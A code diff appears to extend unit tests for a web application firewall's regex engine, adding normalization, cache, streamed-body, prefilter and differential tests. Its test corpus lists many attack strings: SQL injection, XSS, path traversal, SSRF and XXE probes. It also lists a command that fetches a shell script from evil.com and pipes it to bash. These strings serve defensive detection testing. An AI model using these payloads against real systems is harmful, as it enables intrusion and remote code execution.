@@ -1,5 +1,6 @@
 // tests/test_waf_regex.cc
-// Unit tests + performance/ReDoS benchmark for WafRegexEngine
+// Unit tests + performance/ReDoS benchmark for WafRegexEngine, and a
+// differential test of its automaton (waf_automaton.hh) against std::regex
 //
 // Build (standalone, no CMake):
 //   g++ -std=c++17 -O2 -o test_waf_regex test_waf_regex.cc -lpthread && ./test_waf_regex
@@ -19,6 +20,9 @@
 #include <cassert>
 #include <chrono>
 #include <cstdio>
+#include <cstring>
+#include <random>
+#include <regex>
 #include <string>
 #include <vector>
 
@@ -359,6 +363,153 @@ void test_url_decode_evasion()
     CHK(!waf_check(e, "/", "f=%252e%252e%252f"),                      "double-encoded ../");
 }
 
+// ────────────────────────────────────────────────────────────────────────────
+// 15b. Request normalization (waf_input.hh)
+// ────────────────────────────────────────────────────────────────────────────
+void test_normalize()
+{
+    SECTION("Request normalization");
+    WafNormalizer n;
+    const WafInput& in = n.run("/Files/a+b", "q=%41%2b1+2", "x=1", "Mozilla/5.0 SQLMap");
+    CHK(in.target == "/Files/a b q=A+1 2 x=1 ", "target = decoded path query body");
+    CHK(in.path == "/Files/a b" && in.query == "q=A+1 2" && in.body == "x=1", "segment views");
+    CHK(in.path_lower == "/files/a+b" && in.ua_lower == "mozilla/5.0 sqlmap", "folded raw path and UA");
+    CHK(in.raw_query == "q=%41%2b1+2" && in.flags == 0, "raw views, no findings");
+
+    CHK(n.run("/", "f=%252e%252e%252f", "", "").flags == WAF_IN_DOUBLE_ENC, "double encoding");
+    CHK(n.run("/a%00.php", "", "", "").flags == WAF_IN_NUL,                "NUL byte");
+    CHK(n.run("/..%c0%af..%c0%afetc", "", "", "").flags == WAF_IN_OVERLONG, "overlong UTF-8");
+    CHK(n.run("/", "p=100%", "", "").flags == WAF_IN_BAD_PCT,              "stray percent");
+    CHK(n.run("/caf%c3%a9", "", "", "").flags == 0,                        "valid UTF-8 is fine");
+
+    WafInputParts no_body; no_body.body = false;
+    CHK(n.run("/p", "q", "body", "", no_body).target == "/p q ", "disabled part left out");
+
+    size_t cap = n.capacity();
+    n.run("/short", "", "", "ua");
+    CHK(n.capacity() == cap, "buffer reused between requests");
+
+    WafRegexEngine e; e.compile();
+    CHK(!e.check("1.2.3.4", "GET", n.run("/x", "id=1%27%20UNION%20SELECT%20a", "", "", e.input_parts())),
+        "check() on normalized input");
+    CHK(e.stats_json().find("\"normalize\":{\"double_encoded\":0") != std::string::npos,
+        "json reports normalization findings");
+}
+
+// ────────────────────────────────────────────────────────────────────────────
+// 15c. Verdict cache (waf_verdict_cache.hh)
+// ────────────────────────────────────────────────────────────────────────────
+void test_verdict_cache()
+{
+    SECTION("Verdict cache");
+    {
+        // SipHash-2-4-128 reference vector: key 00..0f, empty message
+        SipKey k{0x0706050403020100ULL, 0x0f0e0d0c0b0a0908ULL};
+        Hash128 h = siphash128(k, "");
+        CHK(h.lo == 0xe6a825ba047f81a3ULL && h.hi == 0x930255c71472f66dULL, "siphash128 reference vector");
+    }
+    WafRegexEngine e; e.compile();
+    e.on_block = nullptr;
+    WafNormalizer n;
+    WafVerdictCache vc;
+    // Inputs with a rule's literal ("and "), so the automaton would run
+    auto run = [&](const char* path, const char* query) {
+        return e.check("1.2.3.4", "GET", n.run(path, query, "", "Mozilla/5.0", e.input_parts()),
+                       nullptr, nullptr, &vc);
+    };
+    CHK(run("/search", "q=shoes and bags"), "first request allowed");
+    CHK(run("/search", "q=shoes and bags"), "repeat allowed");
+    CHK(e.vc_hits.load() == 1 && e.vc_misses.load() == 1, "repeat answered from the cache");
+    CHK(run("/search", "q=shoes and hats") && e.vc_misses.load() == 2, "other query is a miss");
+
+    CHK(!run("/x", "q=1 OR 1=1") && !run("/x", "q=1 OR 1=1"), "attack blocked twice");
+    CHK(e.events.size() == 2, "blocks are never cached (both recorded)");
+
+    e.config_changed();
+    run("/search", "q=shoes and bags");
+    CHK(e.vc_hits.load() == 1, "config change invalidates entries");
+    run("/search", "q=shoes and bags");
+    CHK(e.vc_hits.load() == 2, "refilled under the new generation");
+
+    std::string big = "q=and " + std::string(WafVerdictCache::MAX_KEY, 'a');
+    uint64_t lookups = e.vc_hits.load() + e.vc_misses.load();
+    run("/big", big.c_str());
+    CHK(e.vc_hits.load() + e.vc_misses.load() == lookups, "oversized input bypasses the cache");
+
+    CHK(e.stats_json().find("\"verdict_cache\":{\"hits\":2,\"misses\":5,\"hit_ratio\":0.2857") != std::string::npos,
+        "json reports hit ratio");
+}
+
+// ────────────────────────────────────────────────────────────────────────────
+// 15d. Request body inspected chunk by chunk (WafBodyScan)
+// ────────────────────────────────────────────────────────────────────────────
+void test_body_stream()
+{
+    SECTION("Streamed body");
+    {
+        WafProg p;
+        p.add(R"(\bunion\s+select\b)", true);
+        p.finish();
+        WafDfa a(p), b(p);
+        WafDfaCursor c;
+        a.feed(c, "id=1 UNI");
+        b.feed(c, "ON SEL");            // other cache: resumed from the NFA set
+        a.feed(c, "ECT");
+        CHK(c.found.none() && a.finish(c).test(0), "cursor: match across pieces, \\b at the end");
+    }
+    {
+        std::string out; uint8_t fl = 0;
+        CHK(waf_url_decode("a%2", out, fl, false) == 1 && out == "a", "decoder leaves a cut %X");
+        CHK(waf_url_decode("a%2", out, fl) == 3 && (fl & WAF_IN_BAD_PCT), "...unless it is the last piece");
+    }
+
+    WafRegexEngine e; e.compile();
+    e.on_block = nullptr;
+    WafNormalizer n;
+    auto verdict = [&](WafBodyScan& bs, const std::string& body) {
+        e.body_end(bs, body);
+        return e.check("1.2.3.4", "POST", n.run("/upload", "", body, "Mozilla/5.0", e.input_parts()),
+                       nullptr, nullptr, nullptr, &bs);
+    };
+
+    // Padding far past any fixed cap, %3C split between two chunks
+    std::string body = "data=" + std::string(200 * 1024, 'a') + "&c=%3Cscript%3Ealert(1)";
+    WafBodyScan bs;
+    size_t cut = body.find("%3C") + 2, off = 0;
+    for(size_t end : {size_t(70000), cut, body.size()}) {
+        e.body_feed(bs, std::string_view(body).substr(off, end - off));
+        off = end;
+        if(e.body_blocked(bs)) break;
+    }
+    CHK(e.body_blocked(bs) && off == body.size(), "script after 200 KB of padding found");
+    CHK(bs.tail.size() <= WafRegexEngine::BODY_TAIL && bs.pend.empty(), "state stays small");
+    CHK(!verdict(bs, body.substr(0, off)), "request blocked");
+    CHK(e.events.back().detail == "<script>", "event detail from the chunk that matched");
+
+    WafBodyScan early;
+    std::string big = "x=1 UNION SELECT a&" + std::string(100 * 1024, 'b');
+    e.body_feed(early, std::string_view(big).substr(0, 4096));
+    CHK(e.body_blocked(early) && early.fed == 4096, "match stops before the rest of the body");
+
+    WafBodyScan fine;
+    std::string json = "{\"name\":\"" + std::string(150 * 1024, 'x') + "\"}";
+    for(size_t o = 0; o < json.size(); o += 16384)
+        e.body_feed(fine, std::string_view(json).substr(o, 16384));
+    CHK(verdict(fine, json), "benign streamed body allowed");
+
+    WafBodyScan whole;
+    CHK(!verdict(whole, "q=1 OR 1=1") && whole.fed == 10, "body in one piece: same verdict");
+
+    e.cfg.block_mode = false;
+    WafBodyScan detect;
+    e.body_feed(detect, "q=<script>&x=1");
+    CHK(detect.matched() && !e.body_blocked(detect), "detect-only: the body is read to the end");
+    e.cfg.block_mode = true;
+
+    CHK(e.stats_json().find("\"body\":{\"checked\":3,") != std::string::npos &&
+        e.body_streamed.load() == 4 && e.body_early.load() == 3, "json reports body inspection");
+}
+
 // ────────────────────────────────────────────────────────────────────────────
 // 16. Performance / ReDoS benchmark
 //     Each pattern set is exercised with a "worst-case" string of 4096 chars.
@@ -399,9 +550,9 @@ void benchmark_redos()
         if (!ps) { printf("  ? category not found: %s\n", cat.c_str()); continue; }
 
         auto t0 = Clock::now();
-        std::smatch m;
-        for (auto& pat : ps->patterns)
-            std::regex_search(input, m, pat);
+        e.scan(ps->input, input);
+        for (size_t i = 0; i < ps->ids.size(); i++)
+            e.search(*ps, i, input);
         double elapsed = Ms(Clock::now() - t0).count();
 
         if (elapsed > THRESHOLD_MS) {
@@ -434,10 +585,157 @@ void benchmark_redos()
 
     if (any_slow) {
         printf("\n  NOTE: Slow patterns detected. Consider:\n");
-        printf("    1. Replace std::regex with RE2 (linear-time guarantees)\n");
-        printf("    2. Rewrite possessive quantifiers / atomic groups manually\n");
-        printf("    3. Add input-length cap before regex (cfg.max_body_check already does this for body)\n");
+        printf("    1. Check WafDfa::MAX_STATES (cache flushes: %llu)\n",
+               (unsigned long long)g_waf_dfa_stats.flushes.load());
+        printf("    2. Split very long {n,m} repeats (each copy is NFA states)\n");
+        printf("    3. Add input-length cap before matching (the body is streamed, see WafBodyScan)\n");
+    }
+}
+
+// ────────────────────────────────────────────────────────────────────────────
+// Literal prefilter (waf_prefilter.hh)
+// ────────────────────────────────────────────────────────────────────────────
+void test_prefilter()
+{
+    SECTION("Literal prefilter");
+    WafRegexEngine e; e.compile();
+    CHK(e.prefilters[WafRegexEngine::IN_URI].always().none() &&
+        e.prefilters[WafRegexEngine::IN_UA].always().none(), "every rule has required literals");
+
+    waf_check(e, "/api/v1/files", "dir=%2Fmedia%2Fphotos&sort=name");
+    waf_check(e, "/index.html");
+    waf_check(e, "/api/v1/shares", "", "{\"name\":\"holiday photos\",\"users\":[\"alice\",\"bob\"]}");
+    CHK(e.pf_scanned.load() == 4, "benign requests scanned (three targets, one body)");
+    CHK(e.pf_passed.load() == 0,  "benign requests never reach the automaton");
+
+    CHK(!waf_check(e, "/", "q=1 OR 1=1"), "attack still blocked");
+    CHK(e.pf_passed.load() == 1,  "attack passes the prefilter");
+    std::string j = e.stats_json();
+    CHK(j.find("\"prefilter\":{\"scanned\":5,\"passed\":1,\"pass_ratio\":0.2000") != std::string::npos,
+        "json reports pass-through ratio");
+}
+
+// ────────────────────────────────────────────────────────────────────────────
+// 17. Differential: automaton vs std::regex
+//     Every rule is also compiled with std::regex (icase, ECMAScript — what
+//     the engine used before) and both must agree on every input: match or
+//     not, and the exact matched substring (the event detail). The one-pass
+//     DFA scan must report exactly the patterns std::regex finds.
+// ────────────────────────────────────────────────────────────────────────────
+static std::vector<std::string> diff_corpus()
+{
+    // Inputs of the tests above, the rules' literals in both cases, and
+    // seeded random splices of tokens the rules care about
+    std::vector<std::string> c = {
+        "", " ", "/", "/search q=1 OR 1=1 ", "q=1' OR '1'='1", "id=1 UNION SELECT username,password FROM users",
+        "id=1; DROP TABLE users", "t=1' AND SLEEP(5)--", "t=1' and sleep(5)-- ", "x=0x41424344", "x=0x4142",
+        "x=(SELECT pass FROM users)", "q=select a shirt", "msg=Hello World", "x=<script>alert(1)</script>",
+        "cb=javascript:alert(1)", "x=<img onerror=alert(1) src=x>", "x=<iframe src=x>", "eval(atob('x'))",
+        "x=document.cookie", "data:text/html,<script>", "x=%3cscript%3e", "&#x3c;<script", "&#60; < script",
+        "/files/../../../etc/passwd", "f=..%2f..%2fetc", "%252e%252e%252f", "..\\windows", "/proc/self/environ",
+        "p=C:\\windows\\system32", "\\\\.\\pipe", "cmd=; ls -la", "x=`id`", "x=$(whoami)", "${HOME}",
+        "x=| bash", "x=; curl http://evil.com/shell.sh | bash", ";wget https://x", "x=system('id')", "/bin/bash",
+        "base64_decode('aGk=base64')", "url=http://localhost/admin", "http://127.0.0.1:8080/", "https://::1",
+        "http://169.254.169.254/latest", "http://metadata.google.internal", "file:///etc/passwd", "gopher://evil",
+        "http://10.0.0.1/", "http://192.168.1.1/", "http://172.16.0.1/", "http://172.32.0.1/", "http://user:pass@x",
+        "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "<!DOCTYPE foo [", "SYSTEM 'file://x'", "xpath //a @b",
+        "/wp-login.php", "/wp-admin/admin.php", "\\wp-content\\", "/xmlrpc.php", "/wp-config.php~", "/.git/config",
+        "/.env", "/.env?x", "/phpmyadmin/index.php", "/pma/", "/administrator/index.php", "/shell.php", "/c99.php",
+        "/actuator/heapdump", "/cgi-bin/admin.cgi", "/cgi-bin/test.sh", "/v1/swagger.json", "/api/health.json",
+        "/readme", "/LICENSE.txt", "/.well-known/security.txt", "/wp-json/wp/v2", "/wp-content/uploads/2024/",
+        "/status", "/manager/html", "/config.php", "/setup.php ", "/joomla/index", "/sites/default/files",
+        "User-Agent: sqlmap/1.7.2#stable", "Nikto/2.1.6", "Mozilla/5.0 (compatible; Nessus)", "gobuster/3.1.0",
+        "python-requests/2.28.1", "Go-http-client/1.1", "curl/8.1", "Wget/1.21", "Scrapy/2.9.0", "libwww-perl/6",
+        "wordpress scanner", "WP- probe", "bot xxxxxxxxxxxxxxxxxxxxxxx attack", "crawler " + std::string(40, 'x') + " scan",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", "line1\nline2 -- \r\n#", "a--", "--  ",
+        "*/ ", "# ", "x=1 or 2=2", "and 'a'='a'", "char(65)", "NCHAR ( 1", "information_schema", "sys.databases",
+        "into   outfile", "waitfor delay", "pg_sleep(1)", "onload=", "onmouseover =", "setInterval(", "expression(",
+        "window.location", "url( javascript", "-moz-binding:", "vbscript:", "<embed>", "< / script >",
+        std::string("nul\0byte union select x", 24), "\xc3\xa9t\xc3\xa9 select \xff from", "\x80\xfe\xff",
+    };
+    const char* toks[] = {
+        " ", "  ", "\t", "\n", "\r", "'", "\"", "=", "1", "42", "a", "Z", "_", "-", "--", "#", ";", "|", "&", "`",
+        "$(", "${", ")", "}", "(", "<", ">", "/", "\\", ".", "..", "../", "%2e", "%2f", "%252e", "%3c", "?", "@",
+        ":", "://", "http", "https://", "0x", "abcdef", "ff", "or", "OR", "and", "union", "UNION", "all", "select",
+        "SeLeCt", "from", "drop", "exec", "sleep", "benchmark", "script", "javascript", "onerror", "onclick",
+        "document", "cookie", "window", "eval", "iframe", "etc", "passwd", "proc", "self", "windows", "c:", "pipe",
+        "ls", "cat", "id", "bash", "sh", "curl", "wget", "chmod", "system", "127.0.0.1", "localhost", "10.1.2.3",
+        "172.20.1.1", "192.168.0.1", "169.254.169.254", "file:///", "gopher://", "<!ENTITY", "<!DOCTYPE", "[",
+        "SYSTEM", "xpath", "wp-", "admin", "login", "content", ".php", ".bak", "~", ".git", "/.env", "HEAD",
+        "phpmyadmin", "cgi-bin", ".cgi", "actuator", "env", "health", "swagger", ".json", "readme", "license",
+        ".txt", "$", "sqlmap", "nikto", "curl/", "wget/7", "python-requests", "bot", "crawler", "attack", "\xc3\xa9",
+        "\xff", "\0",
+    };
+    const size_t ntok = sizeof(toks) / sizeof(*toks);
+    std::mt19937 rng(20240617);
+    for (int i = 0; i < 4000; i++) {
+        std::string s;
+        int n = 1 + rng() % 12;
+        for (int k = 0; k < n; k++) {
+            const char* t = toks[rng() % ntok];
+            s.append(t, t[0] ? strlen(t) : 1);
+        }
+        c.push_back(std::move(s));
+    }
+    // Mutants of the attack strings: case flips, spliced tokens, dropped
+    // bytes — near misses and shifted match boundaries
+    size_t fixed = c.size() - 4000;
+    for (size_t f = 0; f < fixed; f++) {
+        for (int k = 0; k < 20; k++) {
+            std::string s = c[f];
+            for (int edits = 1 + rng() % 3; edits > 0; edits--) {
+                size_t at = s.empty() ? 0 : rng() % (s.size() + 1);
+                switch (rng() % 3) {
+                case 0: if (at < s.size()) s[at] ^= (isalpha((unsigned char)s[at]) ? 0x20 : 0); break;
+                case 1: { const char* t = toks[rng() % ntok]; s.insert(at, t, t[0] ? strlen(t) : 1); break; }
+                case 2: if (at < s.size()) s.erase(at, 1); break;
+                }
+            }
+            c.push_back(std::move(s));
+        }
+    }
+    return c;
+}
+
+void test_differential()
+{
+    SECTION("Differential vs std::regex");
+    WafRegexEngine e; e.compile();
+    auto corpus = diff_corpus();
+
+    size_t patterns = 0, compared = 0, matched = 0, wrong_match = 0, wrong_span = 0, wrong_scan = 0;
+    for (auto& ps : e.pattern_sets) {
+        std::vector<std::regex> ref;
+        for (auto& r : ps.raw) ref.emplace_back(r, std::regex::icase | std::regex::optimize);
+        patterns += ref.size();
+        for (auto& s : corpus) {
+            WafPatternMask mask = e.scan(ps.input, s);
+            for (size_t i = 0; i < ref.size(); i++) {
+                std::smatch m;
+                bool want = std::regex_search(s, m, ref[i]);
+                std::string got_str;
+                bool got = e.search(ps, i, s, &got_str);
+                compared++;
+                matched += want;
+                if (got != want) {
+                    if (wrong_match++ < 5)
+                        printf("    match differs: /%s/ on \"%s\" (regex %d)\n", ps.raw[i].c_str(), s.c_str(), want);
+                } else if (want && got_str != m.str()) {
+                    if (wrong_span++ < 5)
+                        printf("    span differs: /%s/ on \"%s\": \"%s\" vs \"%s\"\n",
+                               ps.raw[i].c_str(), s.c_str(), got_str.c_str(), m.str().c_str());
+                }
+                if (mask.test(ps.ids[i]) != want && wrong_scan++ < 5)
+                    printf("    scan differs: /%s/ on \"%s\" (regex %d)\n", ps.raw[i].c_str(), s.c_str(), want);
+            }
+        }
     }
+    printf("  %zu patterns x %zu inputs = %zu comparisons, %zu matches\n",
+           patterns, corpus.size(), compared, matched);
+    CHK(patterns == 96,    "every rule compiled by the automaton");
+    CHK(wrong_match == 0,  "match / no match identical to std::regex");
+    CHK(wrong_span == 0,   "matched substring identical to std::regex");
+    CHK(wrong_scan == 0,   "prefilter + DFA scan reports the same patterns");
 }
 
 // ────────────────────────────────────────────────────────────────────────────
@@ -470,6 +768,11 @@ int main()
     test_out_params();
     test_stats_json();
     test_url_decode_evasion();
+    test_normalize();
+    test_verdict_cache();
+    test_body_stream();
+    test_prefilter();
+    test_differential();
 
     benchmark_redos();
 